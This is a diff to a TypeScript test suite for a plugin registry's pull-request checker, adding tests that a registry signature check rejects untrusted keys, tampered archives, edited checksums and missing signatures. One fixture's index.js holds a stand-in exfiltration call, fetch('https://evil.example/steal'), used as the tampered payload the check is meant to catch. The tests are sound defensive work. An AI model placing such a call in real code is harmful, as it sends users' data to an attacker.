@@ -1,6 +1,8 @@
 // The pull-request checker against a local stand-in for GitHub's REST API (github.com is not
 // reachable here): an HTTP server answering the documented shapes of the endpoints the checker calls
 // (pulls/files, contents, check-runs, statuses, reviews). Octokit talks to it over HTTP via baseUrl.
+// The base registry trusts one publisher key (keys/), so pull requests adding signed versions are
+// checked with the same signature verification as the pre-receive hook: the one registry validator.
 import { after, before, test } from 'node:test';
 import assert from 'node:assert/strict';
 import type { Server } from 'node:http';
@@ -9,7 +11,17 @@ import { mkdirSync, writeFileSync } from 'node:fs';
 import { dirname, join } from 'node:path';
 import express from 'express';
 import pino from 'pino';
-import { signBody, startRegistryServer, type RegistryServer } from '../registry-index/index.ts';
+import { createHash } from 'node:crypto';
+import {
+  generateSigningKey,
+  loadSigningKey,
+  signArchive,
+  signBody,
+  startRegistryServer,
+  writeTarGz,
+  type RegistryServer,
+  type SigningKey,
+} from '../registry-index/index.ts';
 import { git, json, manifest, tempDir } from './registry-support.ts';
 
 interface Call {
@@ -99,6 +111,9 @@ const sha256 = 'c'.repeat(64);
 const url = (v: string) => `https://github.com/example/stash/releases/download/v${v}/stash-linux-amd64.tar.gz`;
 const stash = (v: string, extra: Record<string, unknown> = {}) =>
   manifest('stash', { version: v, downloads: [{ os: 'linux', arch: 'amd64', url: url(v), sha256 }], ...extra });
+/** The publisher key keys/ trusts for acme-*, and a key the registry has never seen. */
+const acmeKey: SigningKey = loadSigningKey(generateSigningKey().privateKeyPem, 'acme test key');
+const strangerKey: SigningKey = loadSigningKey(generateSigningKey().privateKeyPem, 'stranger test key');
 
 before(async () => {
   dirs = tempDir('registry-pr-');
@@ -112,6 +127,10 @@ before(async () => {
   write('plugins/stash/manifest.json', json(stash('1.0.0')));
   write('plugins/http/manifest.json', json(manifest('http')));
   write('templates/api.yaml', 'name: api\nplugins_required: [http]\n');
+  write(
+    `keys/${acmeKey.keyId}.json`,
+    json({ keyId: acmeKey.keyId, publisher: 'Acme', publicKey: acmeKey.publicKey, plugins: ['acme-*'] }),
+  );
   git(repo, 'add', '-A', '.');
   git(repo, 'commit', '-q', '-m', 'base');
   github = new FakeGitHub();
@@ -253,3 +272,152 @@ test('webhook deliveries must be signed; other events and actions are ignored', 
   const closed = (await (await deliver(prEvent(5, '5'.repeat(40), 'closed'))).json()) as { conclusion: string };
   assert.equal(closed.conclusion, 'skipped');
 });
+
+// --- publisher signatures: a pull request adding a plugin version as `wfctl publish --pr` makes it ---
+
+const digestOf = (bytes: Buffer) => createHash('sha256').update(bytes).digest('hex');
+const archive = writeTarGz([
+  { path: 'manifest.json', data: '{"name":"acme-greeter","version":"1.0.0"}' },
+  { path: 'index.js', data: 'export const steps = {};\n' },
+]);
+const tamperedArchive = writeTarGz([
+  { path: 'manifest.json', data: '{"name":"acme-greeter","version":"1.0.0"}' },
+  { path: 'index.js', data: 'export const steps = {}; fetch("https://evil.example/steal");\n' },
+]);
+
+/** acme-greeter@1.0.0 with one blob download; `download` overrides its fields (undefined deletes one). */
+function greeter(download: Record<string, unknown>): Record<string, unknown> {
+  const digest = digestOf(archive);
+  const d: Record<string, unknown> = {
+    os: 'any',
+    arch: 'any',
+    url: `blob:sha256:${digest}`,
+    sha256: digest,
+    signature: signArchive(acmeKey, { name: 'acme-greeter', version: '1.0.0', sha256: digest }),
+    ...download,
+  };
+  for (const [k, v] of Object.entries(d)) if (v === undefined) delete d[k];
+  return manifest('acme-greeter', { engineApi: '^1.0', downloads: [d] });
+}
+
+let nextPr = 100;
+/** Opens a pull request adding plugins/acme-greeter/manifest.json and returns what the checker posted. */
+async function checkAddition(body: Record<string, unknown>) {
+  const pr = nextPr++;
+  const head = pr.toString(16).padStart(40, 'a');
+  const file = 'plugins/acme-greeter/manifest.json';
+  github.prFiles.set(pr, [{ filename: file, status: 'added' }]);
+  github.contents.set(`${head}:${file}`, json(body));
+  const r = await deliver(prEvent(pr, head));
+  assert.equal(r.status, 200);
+  const result = (await r.json()) as {
+    conclusion: string;
+    title: string;
+    reportedWith: string;
+    problems: Array<{ rule: string; message: string }>;
+  };
+  return { pr, head, result };
+}
+
+interface Annotation {
+  path: string;
+  start_line: number;
+  annotation_level: string;
+  title: string;
+  message: string;
+}
+
+/** The last check-run update posted for this head commit's check run. */
+function checkRunOutput(): { conclusion: unknown; title: string; summary: string; annotations: Annotation[] } {
+  const update = github.callsTo('PATCH', /\/check-runs\/4242$/).at(-1)!;
+  const output = update.body.output as { title: string; summary: string; annotations: Annotation[] };
+  return { conclusion: update.body.conclusion, ...output };
+}
+
+test('a pull request adding a version signed by a trusted key passes the signature check', async () => {
+  const { result } = await checkAddition(greeter({}));
+  assert.deepEqual(result.problems, []);
+  assert.equal(result.conclusion, 'success');
+  const posted = checkRunOutput();
+  assert.equal(posted.conclusion, 'success');
+  assert.equal(posted.title, 'Registry validation passed');
+  assert.deepEqual(posted.annotations, []);
+});
+
+const refusals: Array<{ what: string; download: () => Record<string, unknown>; rules: string[]; message: RegExp }> = [
+  {
+    what: 'a signature by a key the registry does not trust',
+    download: () => ({
+      signature: signArchive(strangerKey, { name: 'acme-greeter', version: '1.0.0', sha256: digestOf(archive) }),
+    }),
+    rules: ['signature-untrusted'],
+    message: new RegExp(
+      `acme-greeter@1\\.0\\.0 is signed by key ${strangerKey.keyId}, which the registry does not trust`,
+    ),
+  },
+  {
+    what: 'a tampered archive (the download re-pointed at other bytes, the signature kept)',
+    download: () => ({ url: `blob:sha256:${digestOf(tamperedArchive)}`, sha256: digestOf(tamperedArchive) }),
+    rules: ['signature-invalid'],
+    message: new RegExp(
+      `the signature of acme-greeter@1\\.0\\.0 \\(sha256 ${digestOf(tamperedArchive).slice(0, 12)}\\.\\.\\.\\) ` +
+        `does not verify with key ${acmeKey.keyId} of Acme`,
+    ),
+  },
+  {
+    // the manifest does not index at all, so this is the one error (the signature is not reached)
+    what: 'a tampered checksum (sha256 edited, the blob and the signature kept)',
+    download: () => ({ sha256: digestOf(tamperedArchive) }),
+    rules: ['download-blob-digest'],
+    message: /download URL names blob sha256:[0-9a-f]{12}\.\.\. but "sha256" is [0-9a-f]{12}\.\.\./,
+  },
+  {
+    what: 'a missing signature',
+    download: () => ({ signature: undefined }),
+    rules: ['signature-missing'],
+    message: new RegExp(
+      "downloads\\[0\\] of acme-greeter@1\\.0\\.0 is an archive in the registry's blob store but carries no " +
+        'publisher signature',
+    ),
+  },
+];
+
+for (const c of refusals) {
+  test(`a pull request adding a version with ${c.what} fails, with the reason in the check run`, async () => {
+    const { result } = await checkAddition(greeter(c.download()));
+    assert.equal(result.conclusion, 'failure');
+    assert.deepEqual(result.problems.map((p) => p.rule).sort(), [...c.rules].sort());
+    const posted = checkRunOutput();
+    assert.equal(posted.conclusion, 'failure');
+    assert.match(posted.title, /^Registry validation failed: \d+ errors?/);
+    assert.match(posted.summary, c.message);
+    // every problem is annotated on the manifest line it concerns, with its hint
+    assert.deepEqual(posted.annotations.map((a) => a.title).sort(), [...c.rules].sort());
+    for (const a of posted.annotations) {
+      assert.equal(a.path, 'plugins/acme-greeter/manifest.json');
+      assert.equal(a.annotation_level, 'failure');
+      assert.ok(a.start_line > 1, `a line inside the downloads entry, got ${a.start_line}`);
+      assert.match(a.message, /\nhint: \S/);
+    }
+    assert.ok(posted.annotations.some((a) => c.message.test(a.message)));
+  });
+
+  test(`a pull request adding a version with ${c.what} gets a failing status and a review comment`, async () => {
+    github.checkRunsAllowed = false;
+    try {
+      const { pr, head, result } = await checkAddition(greeter(c.download()));
+      assert.equal(result.reportedWith, 'status');
+      const status = github.callsTo('POST', new RegExp(`/statuses/${head}$`))[0]!;
+      assert.deepEqual([status.body.state, status.body.context], ['failure', 'registry/validate']);
+      assert.match(String(status.body.description), /^Registry validation failed/);
+      const review = github.callsTo('POST', new RegExp(`/pulls/${pr}/reviews$`))[0]!;
+      assert.equal(review.body.event, 'REQUEST_CHANGES');
+      assert.match(String(review.body.body), c.message);
+      const comments = review.body.comments as Array<{ path: string; line: number; body: string }>;
+      assert.deepEqual(comments.map((x) => /^\*\*([\w-]+)\*\*/.exec(x.body)?.[1]).sort(), [...c.rules].sort());
+      assert.ok(comments.some((x) => c.message.test(x.body) && x.path === 'plugins/acme-greeter/manifest.json'));
+    } finally {
+      github.checkRunsAllowed = true;
+    }
+  });
+}
